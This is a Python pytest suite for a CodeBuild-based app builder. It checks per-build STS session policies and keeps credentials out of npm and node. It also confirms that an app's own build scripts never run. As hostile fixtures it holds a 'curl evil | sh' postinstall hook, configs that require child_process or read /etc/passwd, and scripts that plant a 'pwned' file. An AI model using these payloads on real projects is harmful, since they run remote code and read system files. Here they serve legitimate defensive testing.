"""The CodeBuild builder: S3, STS and CodeBuild on moto (botocore Stubber where the exact
CodeBuild request or a failed build matters: moto ignores overrides and always succeeds),
the per-build session policy evaluated against other apps' keys, and the buildspec's own
commands run here with real npm and Vite, a fake ``aws`` that enforces the session policy,
and ``node``/``npm`` wrappers that record what credentials they could see."""

from __future__ import annotations

import asyncio
import io
import json
import logging
import os
import shutil
import subprocess
import sys
import zipfile
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Any

import boto3
import pytest
import yaml
from botocore.stub import ANY, Stubber

from tests.integration.publishing.test_vue_template_builds import created_files
from zerocode.adapters.aws.codebuild_builder import (
    BUILDSPEC,
    CREDENTIAL_SECONDS,
    CREDENTIAL_VARIABLES,
    TOOLCHAIN_DIR,
    CodeBuildBuilder,
    session_policy,
)
from zerocode.apps.records import CodeGenType
from zerocode.apps.workspace import Snapshot
from zerocode.bootstrap.settings import Settings
from zerocode.publishing import toolchain
from zerocode.publishing.builds import BuildJob, new_build_id

BUCKET = "zc-builds"
DATA_ROLE = "arn:aws:iam::123456789012:role/zc-build-data"


@pytest.fixture
def s3(aws: None) -> Any:
    client = boto3.client("s3", region_name="us-east-1")
    client.create_bucket(Bucket=BUCKET)
    return client


def codebuild_client() -> Any:
    return boto3.client("codebuild", region_name="us-east-1")


def job(kind: CodeGenType, files: dict[str, bytes], *, preview: bool = False) -> BuildJob:
    return BuildJob(
        app_id="app1",
        build_id=new_build_id(),
        kind=kind,
        source=Snapshot.of(files),
        preview=preview,
    )


def keys(s3: Any, prefix: str) -> list[str]:
    return [o["Key"] for o in s3.list_objects_v2(Bucket=BUCKET, Prefix=prefix).get("Contents", [])]


def test_static_apps_are_checked_and_copied_without_codebuild(s3: Any) -> None:
    builder = CodeBuildBuilder(codebuild_client(), s3, "zc", BUCKET)
    page = job(CodeGenType.MULTI_FILE, {"index.html": b"<h1>Hi</h1>", "css/site.css": b"h1{}"})
    outcome = builder.start(page)
    assert not isinstance(outcome, str) and outcome.ok
    prefix = f"builds/app1/{page.build_id}/"
    assert outcome.output == f"s3://{BUCKET}/{prefix}"
    assert sorted(keys(s3, prefix)) == [prefix + "css/site.css", prefix + "index.html"]
    head = s3.head_object(Bucket=BUCKET, Key=prefix + "css/site.css")
    assert head["ContentType"] == "text/css"
    empty = builder.start(job(CodeGenType.HTML, {"about.html": b"x"}))
    assert not isinstance(empty, str) and not empty.ok and "index.html" in (empty.error or "")


def test_static_previews_carry_the_picker_and_deploys_do_not(s3: Any) -> None:
    builder = CodeBuildBuilder(codebuild_client(), s3, "zc", BUCKET)
    files = {"index.html": b"<html><body><h1>Hi</h1></body></html>", "about.html": b"<p>x"}
    preview = job(CodeGenType.MULTI_FILE, files, preview=True)
    assert not isinstance(builder.start(preview), str)
    prefix = f"builds/app1/{preview.build_id}/"
    page = s3.get_object(Bucket=BUCKET, Key=prefix + "index.html")["Body"].read()
    assert (
        page == b'<html><body><h1>Hi</h1><script src="__zerocode/picker.js" defer>'
        b"</script></body></html>"
    )
    about = s3.get_object(Bucket=BUCKET, Key=prefix + "about.html")["Body"].read()
    assert about.endswith(b'<script src="__zerocode/picker.js" defer></script>')
    script = s3.get_object(Bucket=BUCKET, Key=prefix + "__zerocode/picker.js")
    assert script["ContentType"] == "text/javascript" and b"zerocode" in script["Body"].read()
    deploy = job(CodeGenType.MULTI_FILE, files)
    builder.start(deploy)
    published = f"builds/app1/{deploy.build_id}/"
    assert sorted(keys(s3, published)) == [published + "about.html", published + "index.html"]
    assert (
        s3.get_object(Bucket=BUCKET, Key=published + "index.html")["Body"].read()
        == files["index.html"]
    )


def vue_builder(codebuild: Any, s3: Any, project: str = "zc-project") -> CodeBuildBuilder:
    return CodeBuildBuilder(
        codebuild,
        s3,
        project,
        BUCKET,
        sts=boto3.client("sts", region_name="us-east-1"),
        data_role_arn=DATA_ROLE,
    )


def watch(client: Any, operation: str) -> list[dict[str, Any]]:
    """The parameters of every call of ``operation`` on ``client``, and what it answered."""
    calls: list[dict[str, Any]] = []
    service = client.meta.service_model.service_name
    client.meta.events.register(
        f"before-parameter-build.{service}.{operation}",
        lambda params, **kw: calls.append({"params": dict(params)}),
    )
    client.meta.events.register(
        f"after-call.{service}.{operation}", lambda parsed, **kw: calls[-1].update(answer=parsed)
    )
    return calls


def moto_project(client: Any, name: str = "zc-project") -> None:
    client.create_project(
        name=name,
        source={"type": "S3", "location": f"{BUCKET}/sources/none.zip"},
        artifacts={"type": "NO_ARTIFACTS"},
        serviceRole="arn:aws:iam::123456789012:role/cb",
        environment={
            "type": "ARM_CONTAINER",
            "computeType": "BUILD_GENERAL1_SMALL",
            "image": "aws/codebuild/amazonlinux-aarch64-standard:3.0",
        },
    )


def zip_files(s3: Any, key: str) -> dict[str, bytes]:
    body = s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def as_list(value: Any) -> list[Any]:
    return value if isinstance(value, list) else [value]


def allows(policy: dict[str, Any], action: str, resource: str) -> bool:
    """A tiny IAM evaluator: some Allow statement matches the action and the resource (IAM
    wildcards as fnmatch), and no Deny statement does. Conditions (only the KMS statement
    has one) are not evaluated, which can only make this evaluator allow more."""

    def matches(statement: dict[str, Any]) -> bool:
        return any(fnmatchcase(action, a) for a in as_list(statement["Action"])) and any(
            fnmatchcase(resource, r) for r in as_list(statement["Resource"])
        )

    statements = policy["Statement"]
    return any(s["Effect"] == "Allow" and matches(s) for s in statements) and not any(
        s["Effect"] == "Deny" and matches(s) for s in statements
    )


SOURCE_FILES = {"package.json": b"{}", "index.html": b"<div id=app>", "src/main.js": b"x"}
# The toolchain's manifest, and the platform's TypeScript settings every build tree holds.
TOOLCHAIN_FILES = [
    *(f"{TOOLCHAIN_DIR}/{n}" for n in ("package-lock.json", "package.json")),
    toolchain.TSCONFIG,
]


def test_a_vue_build_is_started_with_no_source_no_artifacts_and_scoped_credentials(s3: Any) -> None:
    """The exact StartBuild request: the source and output travel as URIs, the project's own
    role has nothing to do with them, and the credentials are the ones STS just issued."""
    client = codebuild_client()
    builder = vue_builder(client, s3)
    assumed = watch(builder.sts, "AssumeRole")
    vue = job(CodeGenType.VUE_PROJECT, SOURCE_FILES)
    with Stubber(client) as stub:
        stub.add_response(
            "start_build",
            {"build": {"id": "zc-project:1234"}},
            {
                "projectName": "zc-project",
                "idempotencyToken": vue.build_id,
                "sourceTypeOverride": "NO_SOURCE",
                "buildspecOverride": BUILDSPEC,
                "artifactsOverride": {"type": "NO_ARTIFACTS"},
                "environmentVariablesOverride": ANY,
            },
        )
        captured = watch(client, "StartBuild")
        assert builder.start(vue) == "zc-project:1234"
        stub.assert_no_pending_responses()
    (call,) = assumed
    issued = call["answer"]["Credentials"]
    variables = {v["name"]: v for v in captured[0]["params"]["environmentVariablesOverride"]}
    assert {n: v["value"] for n, v in variables.items()} == {
        "ZEROCODE_APP_ID": "app1",
        "ZEROCODE_BUILD_ID": vue.build_id,
        "ZEROCODE_PREVIEW": "0",
        "ZEROCODE_SOURCE_URI": f"s3://{BUCKET}/sources/app1/{vue.build_id}.zip",
        "ZEROCODE_OUTPUT_URI": f"s3://{BUCKET}/builds/app1/{vue.build_id}/",
        "ZEROCODE_S3_ACCESS_KEY_ID": issued["AccessKeyId"],
        "ZEROCODE_S3_SECRET_ACCESS_KEY": issued["SecretAccessKey"],
        "ZEROCODE_S3_SESSION_TOKEN": issued["SessionToken"],
    }
    assert {v["type"] for v in variables.values()} == {"PLAINTEXT"}
    # The build tree (the platform's package.json and vite.config.js) and the toolchain.
    assert sorted(zip_files(s3, f"sources/app1/{vue.build_id}.zip")) == sorted(
        [*TOOLCHAIN_FILES, "index.html", "package.json", "src/main.js", "vite.config.js"]
    )


def test_each_build_assumes_the_data_role_with_a_policy_for_itself_only(s3: Any) -> None:
    client = codebuild_client()
    moto_project(client)
    builder = vue_builder(client, s3)
    assumed, started = watch(builder.sts, "AssumeRole"), watch(client, "StartBuild")
    first = BuildJob(
        app_id="app1",
        build_id=new_build_id(),
        kind=CodeGenType.VUE_PROJECT,
        source=Snapshot.of(SOURCE_FILES),
    )
    other = BuildJob(
        app_id="appB",
        build_id=new_build_id(),
        kind=CodeGenType.VUE_PROJECT,
        source=Snapshot.of(SOURCE_FILES),
    )
    for vue in (first, other):
        assert isinstance(builder.start(vue), str)
    assert len(assumed) == len(started) == 2
    for vue, call, start in zip((first, other), assumed, started, strict=True):
        params = call["params"]
        assert params["RoleArn"] == DATA_ROLE
        assert params["RoleSessionName"] == f"zerocode-{vue.build_id}"
        assert params["DurationSeconds"] == CREDENTIAL_SECONDS == 30 * 60
        policy = json.loads(params["Policy"])
        assert policy == session_policy(
            BUCKET,
            f"sources/{vue.app_id}/{vue.build_id}.zip",
            f"builds/{vue.app_id}/{vue.build_id}/",
        )
        s3_statements = [
            s
            for s in policy["Statement"]
            if any(str(a).startswith("s3:") for a in as_list(s["Action"]))
        ]
        assert [(s["Effect"], s["Action"], s["Resource"]) for s in s3_statements] == [
            (
                "Allow",
                "s3:GetObject",
                f"arn:aws:s3:::{BUCKET}/sources/{vue.app_id}/{vue.build_id}.zip",
            ),
            (
                "Allow",
                "s3:PutObject",
                f"arn:aws:s3:::{BUCKET}/builds/{vue.app_id}/{vue.build_id}/*",
            ),
        ]
        (kms,) = [s for s in policy["Statement"] if s not in s3_statements]
        assert kms["Action"] == ["kms:Decrypt", "kms:GenerateDataKey"]
        assert kms["Condition"] == {
            "StringEquals": {"kms:ViaService": "s3.us-east-1.amazonaws.com"}
        }
        # This build's credentials are in this build's overrides and nowhere else.
        issued = call["answer"]["Credentials"]
        secrets = (issued["AccessKeyId"], issued["SecretAccessKey"], issued["SessionToken"])
        mine = {v["name"]: v["value"] for v in start["params"]["environmentVariablesOverride"]}
        assert tuple(mine[n] for n in CREDENTIAL_VARIABLES) == secrets
        for elsewhere in (s for s in started if s is not start):
            assert not any(secret in json.dumps(elsewhere["params"]) for secret in secrets)
        request = {k: v for k, v in start["params"].items() if k != "environmentVariablesOverride"}
        assert not any(secret in json.dumps(request) for secret in secrets)
    a_key, b_key = (c["answer"]["Credentials"]["AccessKeyId"] for c in assumed)
    assert a_key != b_key


def test_the_session_policy_denies_another_apps_source_and_output() -> None:
    mine, theirs, later = new_build_id(), new_build_id(), new_build_id()
    policy = session_policy(BUCKET, f"sources/appA/{mine}.zip", f"builds/appA/{mine}/")
    obj = f"arn:aws:s3:::{BUCKET}/"
    assert allows(policy, "s3:GetObject", f"{obj}sources/appA/{mine}.zip")
    for path in ("index.html", "assets/index-1a2b.js", "__zerocode/picker.js"):
        assert allows(policy, "s3:PutObject", f"{obj}builds/appA/{mine}/{path}")
    denied = [
        ("s3:GetObject", f"sources/appB/{theirs}.zip"),  # app B's source
        ("s3:PutObject", f"builds/appB/{theirs}/index.html"),  # app B's output (its site)
        ("s3:GetObject", f"builds/appB/{theirs}/index.html"),
        ("s3:GetObject", f"sources/appA/{later}.zip"),  # another build of the app
        ("s3:PutObject", f"builds/appA/{later}/index.html"),
        ("s3:PutObject", "builds/appA/index.html"),  # above its own prefix
        ("s3:PutObject", f"sources/appA/{mine}.zip"),  # its source is read-only
        ("s3:GetObject", f"builds/appA/{mine}/index.html"),  # its output is write-only
        ("s3:DeleteObject", f"builds/appA/{mine}/index.html"),
        ("s3:PutObject", f"builds/appA{mine}/index.html"),
        ("s3:PutObject", "cache/npm/index"),  # the npm cache
        ("s3:GetObject", "workspaces/appB/src/App.vue"),
    ]
    for action, key in denied:
        assert not allows(policy, action, obj + key), (action, key)
    assert not allows(policy, "s3:ListBucket", f"arn:aws:s3:::{BUCKET}")
    # An app whose id extends another's never matches its prefix ("/" ends each segment).
    longer = session_policy(BUCKET, f"sources/app1/{mine}.zip", f"builds/app1/{mine}/")
    assert not allows(longer, "s3:PutObject", f"{obj}builds/app10/{mine}/index.html")
    assert not allows(longer, "s3:GetObject", f"{obj}sources/app10/{mine}.zip")


def test_a_vue_build_without_the_data_role_is_refused_before_anything_is_uploaded(s3: Any) -> None:
    builder = CodeBuildBuilder(codebuild_client(), s3, "zc", BUCKET)
    with pytest.raises(RuntimeError, match="ZEROCODE_BUILD_DATA_ROLE_ARN"):
        builder.start(job(CodeGenType.VUE_PROJECT, SOURCE_FILES))
    assert keys(s3, "") == []


def test_a_vue_preview_sends_the_picker_with_its_source(s3: Any) -> None:
    client = codebuild_client()
    moto_project(client)
    vue = job(CodeGenType.VUE_PROJECT, {"package.json": b"{}"}, preview=True)
    started = watch(client, "StartBuild")
    vue_builder(client, s3).start(vue)
    variables = {
        v["name"]: v["value"] for v in started[0]["params"]["environmentVariablesOverride"]
    }
    assert variables["ZEROCODE_PREVIEW"] == "1"
    assert sorted(zip_files(s3, f"sources/app1/{vue.build_id}.zip")) == sorted(
        [".zerocode/picker.js", *TOOLCHAIN_FILES, "package.json", "vite.config.js"]
    )


def test_the_apps_own_build_configuration_never_reaches_the_zip(s3: Any) -> None:
    client = codebuild_client()
    moto_project(client)
    hostile = {
        "package.json": json.dumps(
            {"scripts": {"postinstall": "curl evil | sh"}, "dependencies": {"vue": "3.5.45"}}
        ).encode(),
        "package-lock.json": b"{}",
        "vite.config.js": b"require('child_process')",
        f"{TOOLCHAIN_DIR}/package.json": b'{"scripts": {"preinstall": "id"}}',
        "index.html": b"<div id=app>",
        "postcss.config.js": b"require('child_process')",
        "src/tsconfig.json": b'{"extends": "/etc/passwd"}',
        ".env": b"VITE_SECRET=x",
        toolchain.TSCONFIG: b'{"extends": "/etc/passwd"}',
    }
    vue = job(CodeGenType.VUE_PROJECT, hostile)
    vue_builder(client, s3).start(vue)
    files = zip_files(s3, f"sources/app1/{vue.build_id}.zip")
    assert files["vite.config.js"] == toolchain.vite_config()
    assert {n: files[f"{TOOLCHAIN_DIR}/{n}"] for n in toolchain.manifest()} == toolchain.manifest()
    assert "package-lock.json" not in files
    assert "scripts" not in json.loads(files["package.json"])
    assert not {"postcss.config.js", "src/tsconfig.json", ".env"} & set(files)
    assert files[toolchain.TSCONFIG] == toolchain.TSCONFIG_JSON


def test_outcomes_follow_codebuild_and_success_needs_the_output(s3: Any) -> None:
    client = codebuild_client()
    builder = CodeBuildBuilder(client, s3, "zc", BUCKET)
    bid = new_build_id()
    with Stubber(client) as stub:
        stub.add_response(
            "batch_get_builds",
            {"builds": [{"id": "zc:1", "buildStatus": "IN_PROGRESS"}]},
            {"ids": ["zc:1"]},
        )
        stub.add_response(
            "batch_get_builds",
            {"builds": [{"id": "zc:1", "buildStatus": "SUCCEEDED"}]},
            {"ids": ["zc:1"]},
        )
        stub.add_response(
            "batch_get_builds",
            {"builds": [{"id": "zc:1", "buildStatus": "SUCCEEDED"}]},
            {"ids": ["zc:1"]},
        )
        stub.add_response(
            "batch_get_builds",
            {
                "builds": [
                    {
                        "id": "zc:2",
                        "buildStatus": "FAILED",
                        "logs": {"deepLink": "https://logs/x"},
                        "environment": {
                            "type": "ARM_CONTAINER",
                            "image": "x",
                            "computeType": "BUILD_GENERAL1_SMALL",
                            "environmentVariables": [
                                {"name": n, "value": f"secret-{n}", "type": "PLAINTEXT"}
                                for n in CREDENTIAL_VARIABLES
                            ],
                        },
                        "phases": [
                            {"phaseType": "INSTALL", "phaseStatus": "SUCCEEDED"},
                            {
                                "phaseType": "BUILD",
                                "phaseStatus": "FAILED",
                                "contexts": [
                                    {
                                        "statusCode": "COMMAND_EXECUTION_ERROR",
                                        "message": "Error while executing command: npm run build",
                                    }
                                ],
                            },
                        ],
                    }
                ]
            },
            {"ids": ["zc:2"]},
        )
        assert builder.outcome("app1", bid, "zc:1") is None  # still running
        missing = builder.outcome("app1", bid, "zc:1")
        assert missing is not None and not missing.ok and "no index.html" in (missing.error or "")
        s3.put_object(Bucket=BUCKET, Key=f"builds/app1/{bid}/index.html", Body=b"<div>")
        done = builder.outcome("app1", bid, "zc:1")
        assert done is not None and done.ok and done.output == f"s3://{BUCKET}/builds/app1/{bid}/"
        failed = builder.outcome("app1", bid, "zc:2")
        assert failed is not None and not failed.ok and "FAILED" in (failed.error or "")
        assert "npm run build" in failed.log_tail and "https://logs/x" in failed.log_tail
        # The build record carries the build's credentials; the log tail never does.
        assert "secret-" not in failed.log_tail + (failed.error or "")
        stub.assert_no_pending_responses()


def test_build_polls_until_codebuild_finishes(s3: Any) -> None:
    client = codebuild_client()
    naps: list[float] = []

    async def nap(seconds: float) -> None:
        naps.append(seconds)

    builder = CodeBuildBuilder(
        client,
        s3,
        "zc",
        BUCKET,
        poll_seconds=2,
        sleep=nap,
        sts=boto3.client("sts", region_name="us-east-1"),
        data_role_arn=DATA_ROLE,
    )
    vue = job(CodeGenType.VUE_PROJECT, {"package.json": b"{}"})
    with Stubber(client) as stub:
        stub.add_response("start_build", {"build": {"id": "zc:9"}}, None)
        for status in ("IN_PROGRESS", "IN_PROGRESS", "STOPPED"):
            stub.add_response(
                "batch_get_builds",
                {"builds": [{"id": "zc:9", "buildStatus": status}]},
                {"ids": ["zc:9"]},
            )
        outcome = asyncio.run(builder.build(vue))
    assert not outcome.ok and "STOPPED" in (outcome.error or "") and naps == [2, 2, 2]


def test_delete_app_removes_sources_and_outputs_of_that_app_only(s3: Any) -> None:
    builder = CodeBuildBuilder(codebuild_client(), s3, "zc", BUCKET)
    for key in (
        "builds/app1/b1/index.html",
        "builds/app1/b2/a.js",
        "sources/app1/b1.zip",
        "builds/app10/b1/index.html",
    ):
        s3.put_object(Bucket=BUCKET, Key=key, Body=b"x")
    assert builder.delete_app("app1") == 3
    assert keys(s3, "") == ["builds/app10/b1/index.html"]


# The fake `aws` for the buildspec test: `s3 cp` against a directory standing in for the
# bucket, refusing (as S3 would) any credentials but the build's scoped ones and any request
# its session policy does not allow. It logs every request it served.
FAKE_AWS = """\
import fnmatch, json, os, shutil, sys
from pathlib import Path

state = Path(STATE)
policy = json.loads((state / "policy.json").read_text())
expected = json.loads((state / "credentials.json").read_text())
given = [os.environ.get(n, "") for n in
         ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")]


def log(**entry):
    with open(state / "calls.jsonl", "a") as out:
        out.write(json.dumps(entry) + "\\n")


def fail(why):
    log(denied=why)
    sys.exit(f"fake aws: {why}")


def allowed(action, arn):
    return any(s["Effect"] == "Allow"
               and any(fnmatch.fnmatchcase(action, a) for a in
                       (s["Action"] if isinstance(s["Action"], list) else [s["Action"]]))
               and any(fnmatch.fnmatchcase(arn, r) for r in
                       (s["Resource"] if isinstance(s["Resource"], list) else [s["Resource"]]))
               for s in policy["Statement"])


def request(action, uri):
    bucket, _, key = uri.removeprefix("s3://").partition("/")
    if not allowed(action, f"arn:aws:s3:::{bucket}/{key}"):
        fail(f"AccessDenied: {action} {uri}")
    log(action=action, key=key)
    return state / "s3" / bucket / key


args = sys.argv[1:]
if args[:2] != ["s3", "cp"]:
    fail(f"only `aws s3 cp` is faked, not {args}")
recursive, excludes, paths, rest = False, [], [], iter(args[2:])
for arg in rest:
    if arg == "--recursive":
        recursive = True
    elif arg == "--exclude":
        excludes.append(next(rest))
    elif arg != "--only-show-errors":
        paths.append(arg)
source, target = paths
if given != expected:
    fail("InvalidAccessKeyId: not the build's scoped credentials")
if source.startswith("s3://"):
    shutil.copyfile(request("s3:GetObject", source), target)
elif recursive:
    for path in sorted(p for p in Path(source).rglob("*") if p.is_file()):
        relative = path.relative_to(source).as_posix()
        if not any(fnmatch.fnmatchcase(relative, e) for e in excludes):
            stored = request("s3:PutObject", target + relative)
            stored.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(path, stored)
else:
    stored = request("s3:PutObject", target)
    stored.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(source, stored)
"""
# What no step but `aws` may see: any AWS credential, and the container's own role.
WATCHED = (
    *CREDENTIAL_VARIABLES,
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
)
CONTAINER_CANARY = "/v2/credentials/container-canary-4f1d"


def fake_tools(bin_dir: Path, state: Path) -> None:
    """``aws`` (the fake above) and ``node``/``npm`` wrappers that write down which of the
    WATCHED variables they were started with, then run the real program."""
    bin_dir.mkdir()
    aws = bin_dir / "aws"
    aws.write_text(f"#!{sys.executable}\nSTATE = {str(state)!r}\n{FAKE_AWS}")
    for name in ("node", "npm"):
        real = shutil.which(name)
        assert real, f"{name} is not installed"
        (bin_dir / name).write_text(
            "#!/bin/bash\n"
            f'echo {name} >> "{state}/ran.log"\n'
            f"for v in {' '.join(WATCHED)}; do\n"
            f'  if printenv "$v" >/dev/null; then echo "{name}: $v" >> "{state}/seen.log"; fi\n'
            "done\n"
            f'exec {real} "$@"\n'
        )
    for tool in bin_dir.iterdir():
        tool.chmod(0o755)


def test_the_buildspec_builds_with_scoped_credentials_and_none_while_building(
    s3: Any, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """The whole AWS flow of one preview build, except CodeBuild itself: the builder
    assumes the data role and starts the build (moto); the buildspec's commands run here
    with the environment the build gets, real npm and Vite, and the fake ``aws`` that holds
    the bucket; the output goes back to moto's S3 and the outcome finds it."""
    caplog.set_level(logging.DEBUG, logger="zerocode")
    spec = yaml.safe_load(BUILDSPEC)
    assert spec["phases"]["install"]["runtime-versions"]["nodejs"] >= 20
    assert "artifacts" not in spec and spec["cache"]["paths"] == ["/root/.npm/**/*"]
    files = {p: c.encode() for p, c in created_files("A Vue todo list").items()}
    package = json.loads(files["package.json"])
    package["scripts"] = {
        **package.get("scripts", {}),
        "postinstall": "touch ../../pwned",
        "build": "touch ../../pwned && vite build",
    }
    files["package.json"] = json.dumps(package).encode()
    files["vite.config.js"] = (
        b"import { execSync } from 'node:child_process'\n"
        b"execSync('touch ../../pwned')\nexport default {}\n"
    )
    client = codebuild_client()
    moto_project(client)
    builder = vue_builder(client, s3)
    assumed, started = watch(builder.sts, "AssumeRole"), watch(client, "StartBuild")
    vue = job(CodeGenType.VUE_PROJECT, files, preview=True)
    runner = builder.start(vue)
    assert isinstance(runner, str)

    state, src = tmp_path / "state", tmp_path / "codebuild" / "src"
    src.mkdir(parents=True)
    source_key = f"sources/app1/{vue.build_id}.zip"
    (state / "s3" / BUCKET / "sources" / "app1").mkdir(parents=True)
    (state / "s3" / BUCKET / source_key).write_bytes(
        s3.get_object(Bucket=BUCKET, Key=source_key)["Body"].read()
    )
    (state / "policy.json").write_text(assumed[0]["params"]["Policy"])
    issued = assumed[0]["answer"]["Credentials"]
    secrets = [issued["AccessKeyId"], issued["SecretAccessKey"], issued["SessionToken"]]
    (state / "credentials.json").write_text(json.dumps(secrets))
    fake_tools(tmp_path / "bin", state)
    overrides = {
        v["name"]: v["value"] for v in started[0]["params"]["environmentVariablesOverride"]
    }
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    env.update(
        overrides,
        PATH=f"{tmp_path / 'bin'}:{os.environ['PATH']}",
        npm_config_cache=str(Settings().npm_cache),
        CODEBUILD_SRC_DIR=str(src),
        # What a CodeBuild container has besides: its own role's endpoint.
        AWS_CONTAINER_CREDENTIALS_RELATIVE_URI=CONTAINER_CANARY,
        AWS_ACCESS_KEY_ID="ambient-canary",
        AWS_SECRET_ACCESS_KEY="ambient-canary",
    )
    logs = []
    for phase in ("install", "pre_build", "build", "post_build"):
        for command in spec["phases"].get(phase, {}).get("commands", []):
            done = subprocess.run(
                ["bash", "-c", command],
                cwd=src,
                env=env,
                capture_output=True,
                text=True,
                timeout=600,
            )
            logs.append(done.stdout + done.stderr)
            assert done.returncode == 0, (command, done.stdout[-2000:], done.stderr[-2000:])

    # npm and node ran, and none of them saw a credential or the container's role.
    ran = (state / "ran.log").read_text().split()
    assert "npm" in ran and "node" in ran
    assert not (state / "seen.log").exists(), (state / "seen.log").read_text()
    # The app's scripts and vite.config.js never ran.
    assert not list(tmp_path.rglob("pwned"))
    # Every S3 request used the scoped credentials and was allowed by the session policy:
    # the source download, then the output with index.html last.
    calls = [json.loads(line) for line in (state / "calls.jsonl").read_text().splitlines()]
    assert not [c for c in calls if "denied" in c]
    prefix = f"builds/app1/{vue.build_id}/"
    assert calls[0] == {"action": "s3:GetObject", "key": source_key}
    puts = [c["key"] for c in calls[1:]]
    assert {c["action"] for c in calls[1:]} == {"s3:PutObject"}
    assert puts[-1] == prefix + "index.html" and puts.count(prefix + "index.html") == 1
    assert prefix + "__zerocode/picker.js" in puts and any(p.endswith(".js") for p in puts)

    out = state / "s3" / BUCKET / prefix
    page = (out / "index.html").read_text()
    assert page.count('<script src="__zerocode/picker.js" defer></script></body>') == 1
    assert (out / "__zerocode" / "picker.js").read_bytes() == zip_files(s3, source_key)[
        ".zerocode/picker.js"
    ]
    for path in sorted(p for p in out.rglob("*") if p.is_file()):
        s3.put_object(
            Bucket=BUCKET, Key=prefix + path.relative_to(out).as_posix(), Body=path.read_bytes()
        )
    with Stubber(client) as stub:
        stub.add_response(
            "batch_get_builds",
            {"builds": [{"id": runner, "buildStatus": "SUCCEEDED"}]},
            {"ids": [runner]},
        )
        done_outcome = builder.outcome("app1", vue.build_id, runner)
    assert done_outcome is not None and done_outcome.ok
    assert done_outcome.output == f"s3://{BUCKET}/{prefix}"
    # The credentials and the container canary are in no log, no output and no record.
    published = b"".join(p.read_bytes() for p in out.rglob("*") if p.is_file())
    for secret in (*secrets, CONTAINER_CANARY):
        assert secret.encode() not in published
        assert secret not in "".join(logs) + caplog.text + done_outcome.log_tail
        assert secret not in json.dumps(calls)
